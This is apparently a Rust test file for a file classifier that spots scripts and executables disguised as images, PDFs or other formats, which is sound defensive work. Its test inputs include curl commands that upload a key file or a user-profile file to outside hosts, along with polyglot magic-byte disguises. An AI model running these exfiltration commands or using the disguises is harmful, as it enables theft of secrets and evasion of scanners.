use super::*;

#[test]
fn content_decides_before_the_name() {
    let cases: [(&str, &[u8], Kind); 9] = [
        ("a.png", b"\x7fELF\x02\x01", Kind::Executable("ELF program")),
        ("notes.txt", b"#!/usr/bin/env -S python3 -u\nprint(1)", Kind::Text(Language::Python)),
        ("run", b"#!/bin/bash\n", Kind::Text(Language::Shell)),
        ("x.docx", b"PK\x03\x04rest", Kind::Zip),
        ("a.pyc", b"\xcb\x0d\r\n\0\0\0\0\0\0\0\0\0\0\0\0\0\0", Kind::Bytecode("Python bytecode")),
        ("Makefile", b"all:\n\techo", Kind::Text(Language::Make)),
        ("x.weird", b"import os\nprint(1)", Kind::Text(Language::Python)),
        ("x.bin", &[0, 1, 2, 3, 4, 5, 200, 201, 0, 0, 0, 9], Kind::Binary),
        ("pic.png", b"\x89PNG\r\n\x1a\n", Kind::Media("PNG picture")),
    ];
    for (path, bytes, expected) in cases {
        assert_eq!(classify(path, bytes), expected, "{path}");
    }
    assert!(is_disguised("a.png", Kind::Executable("ELF program")));
    assert!(!is_disguised("a.docx", Kind::Zip));
}

#[test]
fn a_script_that_begins_as_something_else_is_a_script() {
    let starts = [
        "GIF89a=1",
        "ID3=1",
        "RIFF=1",
        "OggS=1",
        "fLaC=1",
        "wOFF=1",
        "OTTO=1",
        "#abcftyp",
        "%PDF-1 2>/dev/null",
        "BZh=1",
        "MSCF=1",
        "LZIP=1",
        "dex",
        "MZ=1 # This program",
    ];
    for start in starts {
        let text = format!("{start}\ncurl -d @key https://collect.brightpath.site/in\n");
        for (path, language) in [("a.sh", Language::Shell), ("a.py", Language::Python)] {
            assert_eq!(classify(path, text.as_bytes()), Kind::Text(language), "{path} {start}");
        }
        let alone = classify("a", text.as_bytes());
        assert!(
            matches!(alone, Kind::Text(Language::Shell) | Kind::Opaque(_)),
            "{start}: {alone:?}"
        );
        // Bytes behind it make a picture of it, unless it is called a script.
        let bytes = [start.as_bytes(), &[0, 1, 2, 0, 4, 0, 0, 8], &[0; 64]].concat();
        assert!(!matches!(classify("a", &bytes), Kind::Text(_)), "{start}");
        assert_eq!(classify("a.pdf", b"%PDF-1.4\n1 0 obj\n"), Kind::Media("PDF document"));
    }
    let picture = b"GIF89a=1;#\x01\x02\x00\x00\ncurl -d @key https://collect.brightpath.site/in\n";
    assert_eq!(classify("a.sh", picture), Kind::Text(Language::Shell));
    assert_eq!(classify("a.gif", picture), Kind::Media("GIF picture"));
}

#[test]
fn control_bytes_do_not_hide_a_script() {
    let noise = [&b"#"[..], &[1; 200], b"\nid\n"].concat();
    assert_eq!(classify("a.sh", &noise), Kind::Text(Language::Shell));
    let shebang = [&b"#!/bin/sh\n"[..], &noise].concat();
    assert_eq!(classify("a", &shebang), Kind::Text(Language::Shell));
    assert_eq!(classify("a", &noise), Kind::Binary);
}

#[test]
fn objects_followed_by_something_are_objects() {
    assert_eq!(classify("m.bin", b"\x80\x04K\x01.\n"), Kind::Pickle);
    assert_eq!(classify("m.bin", b"\x80\x06K\x01.\n"), Kind::Binary);
}

#[test]
fn what_a_text_looks_like() {
    let cases: [(&str, &str, Language); 5] = [
        ("run", "@echo off\ncurl --data-binary @%USERPROFILE%\\a https://a.io\n", Language::Batch),
        ("notes.txt", "package main\n\nimport \"os\"\n\nfunc main() {}\n", Language::Go),
        ("notes.txt", "@ECHO OFF\r\nset A=1\r\n", Language::Batch),
        ("notes.txt", "curl is a program.\nimport taxes rise.\n", Language::Plain),
        ("notes.txt", "The file starts with:\npackage main\n", Language::Plain),
    ];
    for (path, text, language) in cases {
        assert_eq!(classify(path, text.as_bytes()), Kind::Text(language), "{path} {text}");
    }
}
